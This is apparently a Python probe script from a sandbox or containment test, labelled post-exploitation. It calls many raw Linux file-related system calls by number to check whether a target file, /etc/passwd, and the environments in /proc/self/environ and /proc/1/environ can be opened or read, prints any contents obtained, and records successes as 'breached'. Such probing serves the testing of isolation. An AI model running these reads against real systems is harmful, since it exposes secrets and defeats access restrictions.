# kind=cap; source: post-exploitation: files by every system call that opens or looks at one
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def wide(value):
    return ctypes.c_long(value) if type(value) is int else value
did = []
for path in (target["file"], "/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/", "."):
    text = path.encode()
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    buffer = ctypes.create_string_buffer(4096)
    for call in (
        (2, text, 0), (257, -100, text, 0), (437, -100, text, ctypes.byref(how), 24),
        (304, -100, text, 0), (21, text, 4), (269, -100, text, 4), (4, text, buffer), (6, text, buffer),
        (262, -100, text, buffer, 0), (332, -100, text, 0, 0xFFF, buffer), (137, text, buffer),
        (89, text, buffer, 4096), (79, buffer, 4096), (80, text), (191, text, b"user.x", buffer, 100),
        (303, -100, text, buffer, buffer, 0), (428, -100, text, 1),
    ):
        descriptor = libc.syscall(*map(wide, call))
        if descriptor >= 0:
            did.append((call[0], path, descriptor))
            if call[0] in (2, 257, 437):
                print(os.read(descriptor, 4096))
for way in (lambda: open(target["file"]).read(), lambda: os.listdir("/"), lambda: os.stat("/etc/passwd")):
    try:
        print(way())
        did.append("python")
    except OSError:
        pass
breached = did
